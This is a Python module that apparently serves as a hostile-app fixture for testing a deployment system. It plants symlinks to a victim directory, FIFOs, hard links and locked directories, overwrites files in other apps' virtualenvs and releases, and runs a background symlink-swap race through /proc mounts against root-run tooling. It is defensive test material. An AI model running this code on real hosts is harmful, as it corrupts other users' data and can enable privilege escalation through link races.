"""What a hostile app does wherever its code runs: plants links, FIFOs, locked directories and races in root's way.

It is committed into test apps as it is, and runs there as the app's user: in a build backend, in a hook, in the app.
"""

import contextlib
import os
import socket
import sys
import threading
import time
from pathlib import Path

VICTIM = "/var/lib/victim"
HOME = Path("/srv/app")


def attempt(action, *words):
    """Try something; most of it is refused."""
    with contextlib.suppress(Exception):
        return action(*words)
    return None


def replace(path, target):
    """Put a link in place of something, which is moved away."""
    attempt(os.rename, path, f"{path}.away{time.monotonic_ns()}")
    attempt(os.symlink, target, path)


def litter(folder):
    """Leave everything that is awkward to remove or to read in a directory."""
    folder = Path(folder)
    locked = folder / "locked/inner"
    attempt(locked.mkdir, 0o755, True)
    attempt((locked / "file").write_text, "x")
    attempt((folder / "link").symlink_to, VICTIM)
    attempt((locked / "link").symlink_to, VICTIM)
    attempt(os.mkfifo, folder / "fifo")
    attempt(os.link, f"{VICTIM}/file", folder / "hard")
    attempt(os.link, sys.executable, folder / "python-too")
    attempt(socket.socket(socket.AF_UNIX).bind, str(folder / "socket"))
    attempt(locked.chmod, 0)
    attempt(locked.parent.chmod, 0)


def spoil(folder):
    """Write into every file below a directory that can be written."""
    for parent, _, names in os.walk(folder):
        for name in names[:20]:
            attempt(overwrite, Path(parent, name))


def overwrite(path):
    """Spoil a file, without waiting where it is a FIFO."""
    handle = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NONBLOCK)
    os.write(handle, b"spoilt")
    os.close(handle)


def plant():
    """Everything at once, from inside a build or a hook."""
    for name in ("python/venvs", "python/cache", "python", "releases", "data", "repo.git"):
        replace(HOME / name, VICTIM)
    for folder in (os.environ.get("VENV"), os.environ.get("UV_CACHE_DIR"), os.environ.get("HOME"), str(Path.cwd())):
        if folder:
            litter(folder)
    own = os.environ.get("VENV", "")
    for path in [*HOME.glob("python/venvs/*"), *HOME.glob("releases/*")]:
        if str(path) != own and not str(Path.cwd()).startswith(str(path)):
            spoil(path)
            litter(path)
            replace(path, VICTIM)


def race(seconds):
    """Swap a directory and a link as fast as possible, also in the mounts of every other process of ours."""
    until = time.monotonic() + seconds
    while time.monotonic() < until and not (HOME / "data/calm").exists():
        for process in Path("/proc").glob("[0-9]*"):
            for folder in (*process.glob("root/srv/app/releases/*"), *process.glob("root/srv/app/python/*")):
                attempt(os.rename, folder / "flip", folder / "flop")
                attempt(os.symlink, VICTIM, folder / "flip")
                attempt(os.rename, folder / "flip", folder / "away")
                attempt(os.mkdir, folder / "flip")
                attempt(replace, folder / "Procfile", f"{VICTIM}/file")
                attempt(replace, folder / ".launchpad", VICTIM)
        time.sleep(0.01)  # there are other tests on this computer
        for number in range(50):
            attempt(os.rename, HOME / "data/flip", HOME / f"data/flop{number % 3}")
            attempt(os.symlink, VICTIM, HOME / "data/flip")
            attempt(os.unlink, HOME / "data/flip")
            attempt(os.mkdir, HOME / "data/flip")


def in_background(seconds=100000.0):
    """Race in a thread of a process that goes on."""
    threading.Thread(target=race, args=(seconds,), daemon=True).start()


if __name__ == "__main__":
    if os.fork() == 0:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)  # else uv waits for the end of the output of a build backend
        for handle in (0, 1, 2):
            os.dup2(null, handle)
        race(120)
        os._exit(0)
    plant()
